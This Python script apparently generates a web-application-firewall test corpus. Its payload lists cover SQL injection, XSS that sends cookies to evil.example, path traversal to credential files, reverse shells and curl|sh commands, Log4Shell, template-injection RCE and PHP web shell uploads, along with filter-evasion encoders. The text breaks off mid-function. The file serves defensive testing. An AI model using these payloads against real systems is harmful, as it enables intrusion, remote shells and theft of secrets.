"""Writes the managed-rules corpus: ``attacks.jsonl`` and ``benign.jsonl`` beside this file.

Run ``python tests/data/waf/generate.py``; the output is deterministic (seeded). Each line is one request:
``{"category", "method", "path", "query", "headers", "body", "content_type"}`` where ``path`` is the decoded path
as an ASGI server hands it over, ``query`` the raw (still percent-encoded) query string and ``body`` text.

The attack payloads are written the way scanners, exploit kits and people in bug-bounty write-ups send them
(sqlmap, PayloadsAllTheThings-style lists, real Log4Shell and Shellshock traffic), placed in the parameters,
bodies, paths, cookies and headers where they turn up, with the encodings used to slip past filters. The benign
requests are what an AI product's API and web front end see: chat and completion requests whose prompts are full
of SQL, shell, HTML and code, REST calls, searches, form posts, page loads from browsers and bots.
"""

from __future__ import annotations

import json
import random
import string
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus, unquote, urlencode

HERE = Path(__file__).parent
SEED = 20240611

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 "
    "Edg/124.0.2478.80",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.113 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 "
    "Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 "
    "Safari/537.36 OPR/109.0.0.0",
    "Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
]
CLIENTS = [
    "curl/8.5.0",
    "curl/7.81.0",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "OpenAI/Python 1.30.1",
    "AsyncOpenAI/Python 1.23.6",
    "anthropic-typescript/0.20.7",
    "Go-http-client/2.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "node",
    "undici",
    "PostmanRuntime/7.37.3",
    "insomnia/2023.5.8",
    "Wget/1.21.4",
    "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.2)",
    "Dart/3.3 (dart:io)",
    "MyApp/4.12.0 (iPhone; iOS 17.4.1; Scale/3.00)",
    "MyApp/4.12.0 (com.example.app; build:412; Android 14) okhttp/4.11.0",
    "Ruby",
    "Faraday v2.9.0",
    "libcurl/8.4.0 r-curl/5.2.1 httr/1.4.7",
    "aiohttp/3.9.5 Python/3.11",
    "langchain/0.1.16",
    "Vercel Edge Functions",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "GitHub-Hookshot/6c0b1d2",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "kube-probe/1.29",
    "Prometheus/2.51.2",
    "ELB-HealthChecker/2.0",
    "Datadog Agent/7.52.1",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
    "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
]


def request(
    category: str,
    method: str,
    path: str,
    query: str = "",
    headers: dict[str, str] | None = None,
    body: str = "",
    content_type: str | None = None,
) -> dict[str, Any]:
    return {
        "category": category,
        "method": method,
        "path": path,
        "query": query,
        "headers": headers or {},
        "body": body,
        "content_type": content_type,
    }


# ------------------------------------------------------------------------------------------------------- attacks
SQLI = [
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR 1=1--",
    "' or 1=1#",
    '" or 1=1--',
    "' OR 'x'='x",
    "' or ''='",
    '" or ""="',
    "') OR ('1'='1",
    "')) OR (('1'='1",
    "admin'--",
    "admin' #",
    "admin'/*",
    "' OR 1 -- -",
    "' OR TRUE--",
    "1' AND '1'='1",
    "1' AND 1=2 UNION SELECT 1,2,3--+",
    "1 OR 1=1",
    "1 AND 1=1",
    "-1 OR 17-7=10",
    "1) OR (1=1",
    "1 AND 3345=3345",
    "1) AND 3345=3345 AND (6391=6391",
    "1' AND 3345=3345 AND 'WlSf'='WlSf",
    "1' ORDER BY 1--+",
    "1' ORDER BY 4-- -",
    "1 ORDER BY 10",
    "-1 UNION SELECT 1,2,3",
    "-1' UNION SELECT NULL,NULL,NULL--",
    "' UNION ALL SELECT NULL,NULL,NULL,NULL-- -",
    "1' UNION SELECT username, password FROM users--",
    "' UNION SELECT table_name,NULL FROM information_schema.tables--",
    "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()--+",
    "-1 UNION SELECT 1,concat(user(),0x3a,version()),3",
    "1 UNION ALL SELECT NULL,CONCAT(0x7176706b71,0x4a6f5a6d4b,0x716b787671)-- -",
    "' UNION SELECT @@version,NULL#",
    "' UNION SELECT NULL,banner FROM v$version--",
    "x' UNION SELECT name, sql FROM sqlite_master--",
    "1' AND SLEEP(5)--",
    "1' AND SLEEP(5) AND '1'='1",
    "1 AND SLEEP(5)",
    "' AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe",
    "1 AND (SELECT 5234 FROM (SELECT(SLEEP(5)))xyz)",
    "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
    "1' AND BENCHMARK(5000000,MD5(1))--",
    "'||pg_sleep(10)--",
    "1;SELECT pg_sleep(10)--",
    "'; SELECT pg_sleep(5)--",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' WAITFOR DELAY '0:0:5'--",
    "'; WAITFOR DELAY '00:00:05'--",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "if(1=1,sleep(5),0)",
    "(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"+(select(0)from(select(sleep(5)))v)+\"*/",
    "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))--",
    "1 AND updatexml(1,concat(0x7e,(select user()),0x7e),1)",
    "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM "
    "information_schema.tables GROUP BY x)a)--",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "1 AND 1=CONVERT(INT,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))",
    "' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))--",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1' AND SUBSTRING(@@version,1,1)='5",
    "' AND LENGTH(database())=8--",
    "1 RLIKE (SELECT (CASE WHEN (7120=7120) THEN 1 ELSE 0x28 END))",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(6470,CONCAT(0x5c,0x71,(SELECT (ELT(6470=6470,1))),0x71)),1)",
    "'; DROP TABLE users; --",
    "1; DROP TABLE users",
    "Robert'); DROP TABLE Students;--",
    "'; EXEC xp_cmdshell 'whoami'--",
    "1; EXEC master..xp_cmdshell 'ping 10.10.14.3'--",
    "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE--",
    "'; SHUTDOWN--",
    "'; INSERT INTO users (username,password,role) VALUES ('eve','x','admin')--",
    "1; UPDATE users SET role='admin' WHERE username='eve'",
    "'; DECLARE @q varchar(8000); SET @q=0x73656c656374; EXEC(@q)--",
    "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL--",
    "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/s.php'--",
    "1' AND 1=0 UNION SELECT 1,CHAR(97,100,109,105,110),3--",
    "admin' AND password=CHAR(112,97,115,115)--",
    "' OR username=0x61646d696e--",
    "'; COPY (SELECT '') TO PROGRAM 'curl http://10.10.14.3/x|sh'--",
    "1 AND (SELECT 1 FROM pg_sleep(5))",
    "' HAVING 1=1--",
    "' GROUP BY columnnames HAVING 1=1--",
    "1' AND (SELECT COUNT(*) FROM users) > 0 AND '1'='1",
    "' AND EXISTS(SELECT * FROM users WHERE username='admin')--",
    "' OR 1 IN (SELECT @@version)--",
    "1 AND (SELECT SUBSTR(table_name,1,1) FROM information_schema.tables LIMIT 1)='a'",
]
XSS = [
    "<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>",
    "<script>alert(document.domain)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(String.fromCharCode(88,83,83))</script>",
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
    "<script>new Image().src='https://evil.example/?c='+encodeURIComponent(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(document.domain)>",
    '"><img src=x onerror=prompt(1)>',
    '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<img src=1 oNeRrOr=alert`1`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg/onload=confirm(1)>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<body/onload=alert(document.cookie)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src/onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click me",
    '<a href="javascript:alert(1)">click</a>',
    "<a href=javascript:alert(document.cookie)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "javascript://%0aalert(1)",
    "javascript:fetch('//evil.example/'+document.cookie)",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=https://evil.example/phish width=100% height=100%></iframe>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"onmouseover=alert(1)//',
    "';alert(1);//",
    '";alert(document.cookie);//',
    "'-alert(1)-'",
    '"-alert(document.domain)-"',
    "'+alert(1)+'",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.cookie)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
    "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>",
    "{{7*7}}",
    "<svg><script>alert&#40;1&#41;</script>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<svg onload=alert&lpar;1&rpar;>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<style>@import'javascript:alert(1)';</style><img src=x onerror=alert(1)>",
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "../../../../../../etc/passwd",
    "../../../etc/shadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\boot.ini",
    "/etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "../../../../etc/passwd\x00.jpg",
    "../../../../etc/passwd\x00",
    "/proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../var/log/apache2/access.log",
    "../../../../../var/log/nginx/access.log",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://input",
    "expect://id",
    "phar://uploads/avatar.jpg/x.php",
    "zip://uploads/shell.zip#shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "../WEB-INF/web.xml",
    "..;/..;/WEB-INF/web.xml",
    "../../../../home/ubuntu/.ssh/id_rsa",
    "/root/.ssh/authorized_keys",
    "..%2f..%2f..%2fetc%2fpasswd",
]
TRAVERSAL_PATHS = [  # raw request paths
    "/static/../../../../etc/passwd",
    "/images/..%2f..%2f..%2fetc%2fpasswd",
    "/../../../../etc/hosts",
    "/download/..%5c..%5c..%5cwindows%5cwin.ini",
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/server-status",
    "/.htpasswd",
    "/backup.sql",
    "/manager/..;/html",
    "/app/..;/admin/",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/public/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
]
CMDI = [
    ";id",
    "; id",
    "| id",
    "|| id",
    "&& id",
    "& whoami",
    "`id`",
    "$(id)",
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 && whoami",
    "127.0.0.1 | id",
    "8.8.8.8;ls -la",
    "8.8.8.8 | nc 10.10.14.3 4444 -e /bin/sh",
    "example.com; uname -a",
    "x|wget http://10.10.14.3/x.sh -O /tmp/x.sh",
    ";curl http://evil.example/s.sh|sh",
    "$(curl -s http://evil.example/x|bash)",
    ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "1;bash -c 'bash -i >& /dev/tcp/10.10.14.3/9001 0>&1'",
    "|| ping -c 10 127.0.0.1",
    "& ping -n 10 127.0.0.1 &",
    ";sleep 10",
    "|sleep 5",
    "a;cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";/???/??t /???/p??s??",
    ";c'a't /etc/passwd",
    ";w'h'o'am'i",
    ";c\\at /etc/pa\\sswd",
    "\nid",
    "\ncat /etc/passwd",
    "file.txt; rm -rf /",
    "report.pdf && nc -e /bin/bash 10.10.14.2 9001",
    "test$(whoami)",
    "x`uname -a`",
    '1;python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4242));'
    'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
    ';perl -e \'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"))\'',
    "|echo vulnerable",
    ";echo $((7*7))",
    "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://10.10.14.3/x.ps1')\"",
    "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "| type C:\\Windows\\win.ini",
    "& dir c:\\",
    "& net user hacker P@ss123 /add",
    '"; nslookup x.oastify.example; "',
    "'; id; '",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
    "$(nslookup $(whoami).x.oastify.example)",
    "127.0.0.1%0Aid",
]
SHELLSHOCK = [
    '() { :; }; /bin/bash -c "curl http://evil.example/x|sh"',
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",
    "() { _; } >_[$($())] { echo vulnerable; }",
]
LOG4J = [
    "${jndi:ldap://evil.example:1389/a}",
    "${jndi:ldap://10.10.14.3:1389/Exploit}",
    "${jndi:rmi://evil.example:1099/obj}",
    "${jndi:dns://x.oastify.example}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${${upper:j}ndi:ldap://evil.example/a}",
]
RCE = [
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()}}{% endif %}"
    "{% endfor %}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }',
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    '${"freemarker.template.utility.Execute"?new()("id")}',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "<?php system($_GET['cmd']); ?>",
    "<?php eval($_POST['x']);?>",
    "<?=`$_GET[0]`?>",
    "system('id')",
    "phpinfo()",
    "__import__('os').system('id')",
    'Runtime.getRuntime().exec("curl http://evil.example/x.sh")',
    "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
]
SCANNERS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Wfuzz/3.1.0",
    "feroxbuster/2.10.2",
    "WhatWeb/0.5.5",
    "Nessus SOAP v0.0.1 (Nessus.org)",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
    "Arachni/v1.5.1",
    "Mozilla/5.0 SF/2.10b",
    "w3af.org",
    "Mozilla/4.0 (compatible; Netsparker)",
    "commix/v3.9-dev (https://commixproject.com)",
    "ZmEu",
    "Morfeus Fucking Scanner",
    "Mozilla/5.0 Jorgee",
]
PROTOCOL_QUERIES = [
    "url=https://example.com%0d%0aLocation:%20https://evil.example",
    "lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
    "next=%E5%98%8A%E5%98%8DSet-Cookie:%20admin=true",
    "q=x%0aSet-Cookie:%20session=attacker",
    "redirect=%2F%0d%0aSet-Cookie:%20sid=1",
    "callback=foo%0d%0aX-XSS-Protection:%200",
]

PARAM_SPOTS: dict[str, list[tuple[str, str]]] = {
    "sqli": [
        ("/products", "id"),
        ("/api/v1/items", "id"),
        ("/search", "q"),
        ("/index.php", "cat"),
        ("/api/v2/orders", "sort"),
        ("/news/article.php", "id"),
        ("/login", "username"),
        ("/api/users", "email"),
        ("/shop/category", "page"),
        ("/report", "year"),
    ],
    "xss": [
        ("/search", "q"),
        ("/", "s"),
        ("/comments", "text"),
        ("/error", "msg"),
        ("/profile", "name"),
        ("/redirect", "url"),
        ("/help", "topic"),
        ("/api/v1/render", "title"),
    ],
    "traversal": [
        ("/download", "file"),
        ("/index.php", "page"),
        ("/view", "template"),
        ("/api/files", "path"),
        ("/static", "name"),
        ("/include.php", "inc"),
        ("/export", "filename"),
        ("/lang", "locale"),
    ],
    "cmdi": [
        ("/tools/ping", "host"),
        ("/api/v1/diagnostics", "ip"),
        ("/cgi-bin/lookup", "domain"),
        ("/convert", "file"),
        ("/admin/backup", "name"),
        ("/api/thumbnail", "src"),
    ],
    "rce": [
        ("/render", "template"),
        ("/api/v1/preview", "text"),
        ("/index.php", "page"),
        ("/greet", "name"),
        ("/api/debug", "expr"),
    ],
}
JSON_SPOTS: dict[str, list[tuple[str, str, dict[str, Any]]]] = {
    "sqli": [
        ("/api/login", "username", {"password": "hunter2"}),
        ("/api/v1/search", "query", {"limit": 20}),
        ("/api/users/lookup", "email", {}),
        ("/graphql-lite/orders", "customer_id", {"status": "open"}),
        ("/api/v1/products/filter", "category", {"min_price": 10}),
    ],
    "xss": [
        ("/api/comments", "body", {"post_id": 1842}),
        ("/api/v1/profile", "display_name", {"timezone": "UTC"}),
        ("/api/tickets", "subject", {"priority": "high"}),
        ("/api/v1/reviews", "title", {"rating": 5}),
    ],
    "traversal": [
        ("/api/v1/files/read", "path", {}),
        ("/api/templates/render", "template", {"locale": "en"}),
        ("/api/export", "filename", {"format": "csv"}),
    ],
    "cmdi": [
        ("/api/v1/tools/ping", "host", {"count": 3}),
        ("/api/convert", "input_file", {"to": "pdf"}),
        ("/api/v1/dns", "domain", {"type": "A"}),
    ],
    "rce": [
        ("/api/v1/templates/preview", "template", {}),
        ("/api/notes", "content", {"title": "x"}),
        ("/api/eval", "expression", {}),
    ],
}


def case_mix(rng: random.Random, text: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)


def sql_evasion(rng: random.Random, payload: str) -> str:
    choice = rng.random()
    if choice < 0.2:
        return case_mix(rng, payload)
    if choice < 0.3:
        return payload.replace(" ", "/**/")
    if choice < 0.37:
        return payload.replace("UNION", "/*!50000UNION*/").replace("SELECT", "/*!50000SELECT*/")
    if choice < 0.45:
        return payload.replace(" ", "\n")
    if choice < 0.5:
        return payload.replace(" ", "\t")
    return payload


def xss_evasion(rng: random.Random, payload: str) -> tuple[str, bool]:
    """(payload, already percent-encoded)"""
    choice = rng.random()
    if choice < 0.15:
        return case_mix(rng, payload), False
    if choice < 0.22:
        return payload.replace("<", "\uff1c").replace(">", "\uff1e"), False
    if choice < 0.28:
        return quote(payload, safe="").replace("%3C", "%u003c").replace("%3E", "%u003e"), True
    if choice < 0.33:
        return payload.replace("<", "\\u003c").replace(">", "\\u003e"), False
    return payload, False


def encode(rng: random.Random, payload: str) -> str:
    choice = rng.random()
    if choice < 0.35:
        return quote(payload, safe="")
    if choice < 0.6:
        return quote_plus(payload)
    if choice < 0.85:
        return quote(payload, safe="'\"()*,;:/=!@$")
    return quote(quote(payload, safe=""), safe="")


def pick_ua(rng: random.Random) -> str:
    return rng.choice(BROWSERS + CLIENTS[:8])


def place(rng: random.Random, category: str, spot_key: str, payload: str, encoded: bool = False) -> dict[str, Any]:
    """One attack request carrying ``payload`` somewhere ``category`` payloads are sent."""
    roll = rng.random()
    ua = pick_ua(rng)
    if roll < 0.55 or encoded:
        path, param = rng.choice(PARAM_SPOTS[spot_key])
        value = payload if encoded else encode(rng, payload)
        extra = rng.choice(["", "&lang=en", "&page=1", "&utm_source=newsletter", "&_=1717171717"])
        return request(category, "GET", path, f"{param}={value}{extra}", {"user-agent": ua})
    if roll < 0.75:
        path, field, rest = rng.choice(JSON_SPOTS[spot_key])
        body = json.dumps({field: payload, **rest})
        return request(category, "POST", path, "", {"user-agent": ua}, body, "application/json")
    if roll < 0.85:
        path, param = rng.choice(PARAM_SPOTS[spot_key])
        body = urlencode({param: payload, "csrf_token": "f3a9c2e1b7d84f0a"})
        return request(category, "POST", path, "", {"user-agent": ua}, body, "application/x-www-form-urlencoded")
    if roll < 0.93:
        cookie = f"session=8c1e0f6a2b; prefs={quote(payload, safe='')}; theme=dark"
        return request(category, "GET", "/account", "", {"user-agent": ua, "cookie": cookie})
    if roll < 0.97 and "/" not in payload and "?" not in payload and "#" not in payload:
        return request(category, "GET", f"/api/v1/items/{payload}", "", {"user-agent": ua})
    referer = f"https://shop.example.com/search?q={quote_plus(payload)}"
    return request(category, "GET", "/results", "page=2", {"user-agent": ua, "referer": referer})


def attacks(rng: random.Random) -> list[dict[str, Any]]:
    return payload_attacks(rng) + header_attacks(rng) + upload_and_java_attacks(rng) + scanner_and_protocol_attacks(rng)


def payload_attacks(rng: random.Random) -> list[dict[str, Any]]:
    """Each payload placed once or twice in parameters, bodies, cookies, paths or the Referer."""
    out: list[dict[str, Any]] = []
    for payload in SQLI:
        for _ in range(rng.choice([1, 1, 2])):
            out.append(place(rng, "sqli", "sqli", sql_evasion(rng, payload)))
    for payload in XSS:
        for _ in range(rng.choice([1, 1, 2])):
            text, encoded = xss_evasion(rng, payload)
            out.append(place(rng, "xss", "xss", text, encoded))
    for payload in TRAVERSAL:
        for _ in range(rng.choice([1, 2])):
            out.append(place(rng, "traversal", "traversal", payload))
    for raw_path in TRAVERSAL_PATHS:  # as sent; the server hands the path over decoded once
        out.append(request("traversal", "GET", unquote(raw_path), "", {"user-agent": pick_ua(rng)}))
    for payload in CMDI:
        for _ in range(rng.choice([1, 1, 2])):
            out.append(place(rng, "cmdi", "cmdi", payload))
    return out


def header_attacks(rng: random.Random) -> list[dict[str, Any]]:
    """Shellshock in the User-Agent and Referer, Log4Shell in any header (and parameters)."""
    out: list[dict[str, Any]] = []
    for payload in SHELLSHOCK:
        out.append(request("cmdi", "GET", "/cgi-bin/status", "", {"user-agent": payload}))
        out.append(request("cmdi", "GET", "/cgi-bin/test.cgi", "", {"user-agent": pick_ua(rng), "referer": payload}))
    for payload in LOG4J:
        out.append(request("rce", "GET", "/", "", {"user-agent": payload}))
        out.append(request("rce", "GET", "/api/v1/status", "", {"user-agent": pick_ua(rng), "x-api-version": payload}))
        out.append(place(rng, "rce", "rce", payload))
    for payload in RCE:
        for _ in range(rng.choice([1, 2])):
            out.append(place(rng, "rce", "rce", payload))
    return out


def upload_and_java_attacks(rng: random.Random) -> list[dict[str, Any]]:
    """Web shells uploaded as multipart files, Spring4Shell parameters, a serialized Java object in a cookie."""
    out: list[dict[str, Any]] = []
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    shells = [
        ("shell.php", "<?php system($_GET['cmd']); ?>"),
        ("x.phtml", "<?php eval($_POST['x']);?>"),
        ("avatar.php.jpg", "GIF89a;<?php passthru($_REQUEST['c']); ?>"),
    ]
    for name, content in shells:
        body = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="avatar"; filename="{name}"\r\n'
            f"Content-Type: image/jpeg\r\n\r\n{content}\r\n--{boundary}--\r\n"
        )
        multipart_type = f"multipart/form-data; boundary={boundary}"
        out.append(request("rce", "POST", "/api/v1/upload", "", {"user-agent": pick_ua(rng)}, body, multipart_type))
    spring = "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"
    out.append(request("rce", "POST", "/index.php", spring, {"user-agent": pick_ua(rng)}))
    serialized = (
        "JSESSIONID=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9s"
        "ZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa%2FORyAwAHSQAIaGFzaENvZGVJAARwb3J0"
    )
    out.append(request("rce", "GET", "/api/session", "", {"user-agent": pick_ua(rng), "cookie": serialized}))
    return out


def scanner_and_protocol_attacks(rng: random.Random) -> list[dict[str, Any]]:
    """Scanner User-Agents and headers on probe paths; header injection and request smuggling."""
    out: list[dict[str, Any]] = []
    probes = ["/", "/admin/", "/wp-login.php", "/phpmyadmin/", "/robots.txt", "/api/v1/users", "/login"]
    for agent in SCANNERS:
